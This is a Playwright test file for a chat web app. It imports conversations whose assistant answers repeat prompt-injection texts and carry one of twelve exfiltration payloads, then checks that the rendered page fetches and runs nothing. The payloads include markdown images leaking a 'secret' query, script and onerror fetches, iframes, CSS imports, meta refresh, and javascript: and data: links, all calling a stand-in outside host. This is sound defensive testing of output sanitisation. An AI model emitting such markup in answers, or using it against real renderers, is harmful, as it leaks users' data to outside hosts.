import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { complaints, open } from './steps';

const TEXTS = '../../test/resources/injection';
const ABROAD = 'http://127.0.0.2:9';

/** What an answer could be made to hold so that whoever reads it tells somebody else. */
const FORMS = [
  `![a picture](${ABROAD}/p.png?q=secret)`,
  `![][later]\n\n[later]: ${ABROAD}/ref.png`,
  `<img src="${ABROAD}/i.png" onerror="fetch('${ABROAD}/e')">`,
  `<iframe src="${ABROAD}/frame"></iframe>`,
  `<script>fetch('${ABROAD}/script')</script>`,
  `<style>@import url(${ABROAD}/style.css); body { background: url(${ABROAD}/b.png) }</style>`,
  `<link rel="prefetch" href="${ABROAD}/prefetch"><meta http-equiv="refresh" content="0;url=${ABROAD}/">`,
  `<svg><image href="${ABROAD}/s.png" /></svg><video poster="${ABROAD}/v.png" autoplay></video>`,
  `[a link](${ABROAD}/l) <${ABROAD}/auto> ${ABROAD}/bare`,
  `[run](javascript:fetch('${ABROAD}/js')) [data](data:text/html,<script>fetch('${ABROAD}/d')</script>)`,
  `| a |\n|---|\n| ![t](${ABROAD}/t.png) |`,
  `\`\`\`html\n<img src="${ABROAD}/code.png">\n\`\`\``,
];

const lines = ['passages', 'answers'].flatMap((name) =>
  readFileSync(`${TEXTS}/${name}.txt`, 'utf8').trim().split('\n'),
);

/** As many as a page shows at once. */
const EACH = 12;

/** A conversation in which hostile texts were answered with themselves, in one of the forms. */
function conversation(from: number) {
  let parent: string | undefined;
  const said = (role: 'user' | 'assistant', text: string) => {
    const id = randomUUID();
    const message = {
      id,
      ...(parent !== undefined && { parent_id: parent }),
      role,
      text,
      state: 'complete',
      created_at: new Date().toISOString(),
      citations: [],
    };
    parent = id;
    return message;
  };
  const messages = lines.slice(from, from + EACH).flatMap((line, at) => {
    const text = line.replaceAll('{{FOREIGN}}', ABROAD);
    const answer = `${text}\n\n${FORMS[at % FORMS.length]}`;
    return [said('user', `Question ${from + at + 1}? ${text}`), said('assistant', answer)];
  });
  return {
    format: 'parley.conversation',
    version: 1,
    title: `Hostile answers from ${from + 1}`,
    created_at: new Date().toISOString(),
    active_message_id: parent,
    messages,
  };
}

test('hostile answers ask nobody else and run nothing', async ({ page }) => {
  expect(lines.length).toBeGreaterThanOrEqual(100);
  const found = complaints(page);
  await open(page, '/');
  const answers = page.getByRole('article', { name: 'Answer' });
  let seen = 0;
  for (let from = 0; from < lines.length; from += EACH) {
    const taken = await page.request.post('/api/v1/chat/import', { data: conversation(from) });
    expect(taken.status()).toBe(201);
    const { id } = await taken.json();

    await page.goto(`/c/${id}`);
    await expect(answers).toHaveCount(Math.min(EACH, lines.length - from));
    await expect(answers.last()).toBeVisible();
    await answers.first().scrollIntoViewIfNeeded();
    await answers.last().scrollIntoViewIfNeeded();

    await expect(page.locator('main iframe, main script, main style, main object')).toHaveCount(0);
    await expect(page.locator('main article img')).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0);
    expect(page.url()).toContain(`/c/${id}`);
    seen += await answers.count();
  }
  expect(seen).toBe(lines.length);
  expect(found).toEqual([]);
});
